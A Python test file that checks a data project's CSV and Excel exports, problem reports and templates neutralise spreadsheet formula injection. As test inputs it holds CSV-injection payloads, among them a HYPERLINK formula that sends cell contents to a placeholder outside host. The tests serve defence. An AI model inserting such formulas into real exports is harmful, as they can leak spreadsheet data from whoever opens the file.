"""Every export is safe to open (OWASP CSV injection): a text cell that begins with =, +, -, @, tab or CR is escaped
with an apostrophe in CSV and written as text (never a formula or a link) in Excel; numbers stay numbers. Tables,
problem reports and templates alike."""

import csv
import io

import openpyxl
import pandas as pd
import pytest

from sinergi.common.table_export import to_csv_bytes, to_excel_bytes
from sinergi.data.importers import prepare
from sinergi.data.importers.report import report_csv, report_excel
from sinergi.data.importers.sample import synthetic_p3ke
from sinergi.data.importers.templates import SPECS, template_bytes

RISKY = [
    "=1+1",
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
    "+62 812",
    "-1+2",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def _csv_cells(data: bytes, sep: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=sep))


@pytest.mark.parametrize("lang", ["id", "en"])
def test_table_csv_escapes_formula_text_and_keeps_numbers(lang):
    frame = pd.DataFrame({"name": [*RISKY, "Siti"], "households_count": range(-1, len(RISKY))})
    data = to_csv_bytes(frame, lang)
    cells = _csv_cells(data, ";" if lang == "id" else ",")
    names = [row[0] for row in cells[1:]]
    assert names[:6] == ["'" + v for v in RISKY[:6]]
    assert "'\rx" in data.decode("utf-8-sig")  # a lone CR splits the row when read back, but it is escaped
    assert cells[1][1] == "-1"  # a number is not text: never escaped


def test_table_excel_writes_formula_text_as_text():
    frame = pd.DataFrame({"name": [*RISKY, "Siti"], "households_count": range(len(RISKY) + 1)})
    sheet = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(frame))).active
    cells = [sheet.cell(row=r, column=1) for r in range(2, len(RISKY) + 3)]
    assert [str(c.value).replace("_x000D_", "\r") for c in cells] == [*RISKY, "Siti"]
    assert {c.data_type for c in cells} == {"s"}  # strings, no formula ('f') and no hyperlink
    assert not sheet._hyperlinks
    assert sheet.cell(row=2, column=2).data_type == "n"


def test_problem_report_escapes_values_from_the_file(tmp_path):
    frame = pd.read_csv(io.BytesIO(synthetic_p3ke(["99.02.01.2001"], 3, title=False)), sep=";", dtype=str)
    frame.loc[0, "Desil Kesejahteraan"] = "=1+1"
    frame.loc[1, "Desil Kesejahteraan"] = '=HYPERLINK("http://contoh.invalid","x")'
    prepared = prepare("p3ke", [("f.csv", frame.to_csv(index=False, sep=";").encode())])
    report = prepared.report.frame()
    values = [row[4] for row in _csv_cells(report_csv(report), ";")[1:]]
    assert "'=1+1" in values and not any(v.startswith("=") for v in values)
    sheet = openpyxl.load_workbook(io.BytesIO(report_excel(report))).active
    texts = [
        c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")
    ]
    assert texts and {c.data_type for c in texts} == {"s"}


@pytest.mark.parametrize("kind", list(SPECS)[:3])
def test_templates_hold_no_formulas(kind):
    book = openpyxl.load_workbook(io.BytesIO(template_bytes(kind)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
